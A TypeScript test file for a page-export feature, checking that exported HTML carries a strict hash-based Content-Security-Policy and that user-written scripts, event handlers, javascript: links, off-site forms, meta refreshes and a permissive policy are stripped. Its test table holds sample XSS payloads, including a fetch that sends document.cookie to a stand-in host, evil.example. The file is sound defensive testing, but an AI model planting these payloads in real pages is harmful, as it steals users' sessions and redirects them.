import { hash } from 'node:crypto'
import { unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import type { Page } from '../../contracts/page.ts'
import { exportPages } from './export.ts'
import { appScript } from './generate/generate.ts'

const at = '2026-03-01T09:00:00.000Z'

function exported(body: string, head = '<title>Menu</title>'): string {
  const html = `<!doctype html><html lang="en"><head>${head}</head><body>${body}<script src="../app.js" defer></script></body></html>`
  const page = { page_id: 'page_1', slug: 'menu', title: 'Menu', current_version: 1 } as Page
  const files = unzipSync(exportPages({ session_id: 'ses_1', at, pages: [{ page, html }] }))
  return new TextDecoder().decode(files['pages/menu.html'])
}

test('an exported page runs our script by its hash and nothing else, as its first word', () => {
  const page = exported('<p>Hello</p>')
  const [script = ''] = /(?<=<script>)[\s\S]*?(?=<\/script>)/.exec(page) ?? []
  expect(script).toContain(appScript.slice(0, 200))
  expect(page).toContain(`script-src 'sha256-${hash('sha256', script, 'base64')}';`)
  expect(page).toMatch(
    /^<!doctype html><html lang="en"><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'none'/,
  )
  expect(page.match(/<script/g)).toHaveLength(1)
})

test.each([
  ['a script', '<script>fetch("https://evil.example/?" + document.cookie)</script>'],
  ['thirty scripts', '<script>evil()</script>'.repeat(30)],
  ['a script of a drawing', '<svg><script>evil()</script></svg>'],
  ['a handler', '<img alt="" src="data:image/gif;base64,R0lGOD" onerror="evil()">'],
  ['code as an address', '<a href="javascript:evil()">x</a>'],
  ['an address elsewhere', '<img alt="" src="https://evil.example/p.png">'],
  ['a form that posts elsewhere', '<form action="https://evil.example/"><button>x</button></form>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  [
    'a refresh in a template',
    '<template><meta http-equiv="refresh" content="0;url=//evil.example"></template>',
  ],
])('%s that somebody wrote is not in the zip', (_, body) => {
  expect(exported(`<p>Hello</p>${body}`)).toMatch(/<p>Hello<\/p>/)
  expect(exported(`<p>Hello</p>${body}`)).not.toMatch(/evil/)
})

test('a policy that somebody wrote is replaced by ours', () => {
  const page = exported('<p>Hello</p>', '<meta http-equiv="Content-Security-Policy" content="script-src *">')
  expect(page.match(/Content-Security-Policy/g)).toHaveLength(1)
  expect(page).not.toContain('script-src *')
})
